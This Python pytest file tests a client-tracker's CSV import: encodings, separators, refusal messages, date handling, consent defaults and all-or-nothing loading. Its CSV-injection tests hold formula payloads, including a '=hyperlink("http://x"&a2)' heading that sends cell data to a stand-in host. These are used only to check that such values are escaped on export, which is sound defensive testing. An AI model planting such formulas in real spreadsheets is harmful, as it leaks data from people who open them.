"""Lists from a spreadsheet: what comes in, what is refused and why, and nothing before it is confirmed."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from crash_studio import add_client, new_visit
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tracker.errors import InvalidList, NotFound, TrackerError
from tracker.record.records import PURPOSES, Client
from tracker.report import sheet_tables, to_csv
from tracker.store import Store
from tracker.workflow import csv_file
from tracker.workflow.bring_in import KNOWN, bring_in, plan_files, refused_csv
from tracker.workflow.csv_file import UTF8, UTF16, WESTERN, read_list
from tracker.workflow.import_plan import ImportPlan

TODAY = date(2026, 6, 1)


@pytest.fixture
def store(empty_studio: Path) -> Iterator[Store]:
    with Store(empty_studio) as opened:
        yield opened


def plan_import(store: Store, content: bytes, **how: Any) -> ImportPlan:
    return plan_files(store, [content], **how)


def names(store: Store) -> list[str]:
    return [summary.client.name for summary in store.clients.summaries()]


@pytest.mark.parametrize("mark", ["", "\ufeff"])
@pytest.mark.parametrize("separator", [",", ";"])
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_utf8_with_commas_or_semicolons(store: Store, mark: str, separator: str, end: str) -> None:
    rows = [["Name", "Note"], ["Zoë", f'says "hi"{separator} often'], ["Ada", "two\nlines"], ["", ""]]
    out = io.StringIO()
    csv.writer(out, delimiter=separator, lineterminator=end).writerows(rows)
    plan = plan_import(store, f"{mark}{out.getvalue()}".encode())
    assert [(client.name, client.note) for client in plan.clients] == [(row[0], row[1]) for row in rows[1:3]]
    assert plan.refused == ()
    assert store.is_empty()
    assert bring_in(store, plan) == 2
    assert names(store) == ["Ada", "Zoë"]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("coding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"])
def test_codings_of_spreadsheets(store: Store, coding: str, separator: str) -> None:
    text = f"Name{separator}Note{separator}Contact\r\nZoë{separator}“ça va” – 5 €{separator}0049\r\n"
    plan = plan_import(store, text.encode(coding))
    [client] = plan.clients
    assert (client.name, client.note, client.contact) == ("Zoë", "“ça va” – 5 €", "0049")
    assert plan.coding == {"utf-8-sig": UTF8, "utf-8": UTF8, "cp1252": WESTERN}.get(coding, UTF16)


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "no lines"),
        (b"\n \n", "no lines"),
        (b"name\n", "no lines"),
        (b"name,name\nAda,Bea\n", "Two columns are named “name”"),
        (b"colour,size\nred,1\n", "no column with names"),
        (b"date,services\n2026-01-01,toner\n", "no column with the clients' names"),
        (b"name\nZo\x81\n", "line 2 has one in an unknown encoding"),  # no letter of Windows-1252
        ("name\nAda\n".encode("utf-16")[:-1], "unknown encoding"),
        (b"PK\x03\x04\x00\x00name\n", "a spreadsheet's own file"),
        (b'name,note\nAda,"never closed\n', "cannot be read at line 2"),
        (b'name,note\nAda,x\nBea,"a"b\n', "cannot be read at line 3"),
        (b"name\n" + b"x" * (csv_file.LARGEST_BYTES), "MB \\(limit 20 MB\\)"),
        (b"name\n" + b"x\n" * (csv_file.MOST_LINES + 1), "more than 100000 lines"),
    ],
)
def test_what_is_no_such_list_is_refused(store: Store, content: bytes, says: str) -> None:
    with pytest.raises(InvalidList, match=says):
        plan_import(store, content)
    assert store.is_empty()


@given(
    st.binary(max_size=400) | st.text(max_size=200).map(lambda text: f"name,date\n{text}".encode("utf-8", "replace"))
)
@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_bytes_are_read_or_refused(content: bytes) -> None:
    with suppress(InvalidList):
        assert read_list(content, KNOWN).lines


def test_each_line_of_clients_is_taken_or_refused_with_its_reason(store: Store) -> None:
    add_client(store, "Ada")
    lines = ["name;note;phone", "ada;again;1", "Bea;fine;2", ";no name;3", "Bea;twice;4", "x" * 121, "Cy;a;5;b;more"]
    plan = plan_import(store, "\n".join(lines).encode())
    assert [client.name for client in plan.clients] == ["Bea"]
    assert [(refusal.line, refusal.why) for refusal in plan.refused] == [
        (2, "A client named ada is already here."),
        (4, "There is no name."),
        (5, "A client named Bea is already in this list, in line 3."),
        (6, "The name has 121 characters (limit 120)."),
        (7, "It has 5 cells under 3 headings."),
    ]
    assert plan.left_out == ("phone",)
    assert plan.refused[0].cells["note"] == "again"


def test_first_and_last_names(store: Store) -> None:
    plan = plan_import(store, b"First Name,Last  name\nAda,Moss\n,Rey\nBea,\n")
    assert [client.name for client in plan.clients] == ["Ada Moss", "Rey", "Bea"]


def test_lines_are_counted_as_an_editor_does(store: Store) -> None:
    plan = plan_import(store, b'name,note\n\nAda,"one\ntwo"\n,\n,lost\n')
    assert [refusal.line for refusal in plan.refused] == [6]


# promise 16; OWASP, CSV injection
@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_a_formula_comes_in_as_text_and_goes_round(store: Store, sign: str) -> None:
    typed = f"{sign}1+1"
    bring_in(store, plan_import(store, f"name,note\n{typed},{typed}\n".encode()))
    [summary] = store.clients.summaries()
    assert (summary.client.name, summary.client.note) == (typed, typed)
    out = to_csv(sheet_tables("client", store.kept.entries("client"))["client"])
    assert f"'{typed}".encode() in out
    again = plan_import(store, out)
    assert again.clients == ()
    assert again.refused[0].why == f"A client named {typed} is already here."


# promise 16
def test_a_formula_for_a_heading_goes_out_as_text_and_comes_in_again(store: Store) -> None:
    column = '=hyperlink("http://x"&a2)'
    plan = plan_import(store, f'name,"{column.replace(chr(34), chr(34) * 2)}"\n,lost\n'.encode())
    out = refused_csv(plan)
    assert b"\"'=hyperlink" in out
    assert column in plan_import(store, out.replace(b"lost", b"x")).left_out


def test_our_own_list_of_clients_comes_in_again(store: Store, tmp_path: Path) -> None:
    kept = [add_client(store, name, note) for name, note in (("Zoë", "=a"), ("Bea; B", 'b "c"\nd'), ("'quoted", "'-x"))]
    out = to_csv(sheet_tables("client", store.kept.entries("client"))["client"])
    with Store(tmp_path / "other") as other:
        plan = plan_import(other, out)
        assert {(client.name, client.note) for client in plan.clients} == {(each.name, each.note) for each in kept}
        assert plan.left_out == ()


# promise 28: no answer is made up
def test_a_client_from_a_list_has_agreed_to_nothing(store: Store) -> None:
    bring_in(store, plan_import(store, b"name\nAda\n"))
    [summary] = store.clients.summaries()
    assert not [purpose for purpose in PURPOSES if store.consents.given(summary.client.id, purpose)]
    with pytest.raises(TrackerError):
        store.visits.save(new_visit(summary.client.id), [])


def test_past_visits(store: Store) -> None:
    ada = add_client(store, "Ada", purposes=())
    content = b"Client,Date,Services,Notes,Next time\n ada ,2025-03-14,toner; cut,=likes it,cooler\nAda,14.4.2025,,,\n"
    plan = plan_import(store, content, today=TODAY)
    assert plan.refused == ()
    assert store.visits.of_client(ada.id) == []
    assert bring_in(store, plan) == 2
    first, second = sorted(store.visits.of_client(ada.id), key=lambda visit: visit.on)
    assert (first.on, first.services, first.note, first.next_time) == (
        date(2025, 3, 14),
        ("toner", "cut"),
        "=likes it",
        "cooler",
    )
    assert (second.on, second.services, second.note) == (date(2025, 4, 14), (), "")
    assert [found.visit for found in store.visits.find("likes")[0]] == [first]
    again = plan_import(store, content, today=TODAY)
    assert [refusal.why for refusal in again.refused] == [
        "This visit of ada on 2025-03-14 is already here, with the same services.",
        "This visit of Ada on 2025-04-14 is already here, with the same services.",
    ]


def test_each_line_of_visits_is_taken_or_refused_with_its_reason(store: Store) -> None:
    for name in ("Ada", "Twin", "Twin"):
        add_client(store, name)
    days = ("", "2025-02-30", "30.02.2025", "14 March", "2026-06-02", "1949-12-31", "13/13/2025", "2025-01-01T10:00")
    lines = [
        "client,date,notes",
        *(f"Ada,{day}," for day in days),
        "Twin,2025-01-01,",
        "Who,2025-01-01,",
        ",2025-01-01,",
    ]
    plan = plan_import(store, "\n".join([*lines, f"Ada,2025-01-02,{'x' * 4001}"]).encode(), today=TODAY)
    assert [visit.on for _, visit in plan.visits] == [date(2025, 1, 1)]
    assert [refusal.why for refusal in plan.refused] == [
        "There is no date.",
        "The date 2025-02-30 is not a day in the calendar.",
        "The date 30.02.2025 is not a day in the calendar.",
        "The date 14 March is not understood. Write it as 2025-04-03.",
        "The date 2026-06-02 lies in the future.",
        "The date 1949-12-31 lies before 1950.",
        "The date 13/13/2025 is not a day in the calendar.",
        "2 clients are named Twin. First merge their records, or give one of them another name.",
        "There is no client named Who. Bring in the list of clients first.",
        "There is no client name.",
        "The note has 4001 characters (limit 4000).",
    ]


@pytest.mark.parametrize(
    ("dates", "chosen", "found"),
    [
        (["13/04/2025", "03/04/2025"], None, [date(2025, 4, 13), date(2025, 4, 3)]),
        (["04/13/2025", "03/04/2025"], None, [date(2025, 4, 13), date(2025, 3, 4)]),
        (["03/04/2025"], None, None),
        (["03/04/2025"], True, [date(2025, 4, 3)]),
        (["03/04/2025"], False, [date(2025, 3, 4)]),
    ],
)
def test_days_and_months_are_never_guessed(
    store: Store, dates: list[str], chosen: bool | None, found: list[date] | None
) -> None:
    add_client(store, "Ada")
    content = "client,date\n" + "".join(f"Ada,{day}\n" for day in dates)
    plan = plan_import(store, content.encode(), day_first=chosen, today=TODAY)
    assert plan.dates_unclear is (found is None)
    if found is None:
        with pytest.raises(InvalidList, match="days or months"):
            bring_in(store, plan)
    else:
        assert [visit.on for _, visit in plan.visits] == found


# promise 18
def test_all_of_a_list_or_nothing(store: Store) -> None:
    ada, bea = add_client(store, "Ada"), add_client(store, "Bea")
    plan = plan_import(store, b"client,date\nAda,2025-01-01\nBea,2025-01-02\n", today=TODAY)
    store.erasures.erase(bea.id)
    with pytest.raises(NotFound):
        bring_in(store, plan)
    assert store.visits.of_client(ada.id) == []
    clients = plan_import(store, b"name\nCy\nDee\n")
    taken = replace(clients, clients=(clients.clients[0], Client(ada.id, "Dee", "", ada.created_at)))
    with pytest.raises(TrackerError):
        bring_in(store, taken)
    assert names(store) == ["Ada"]
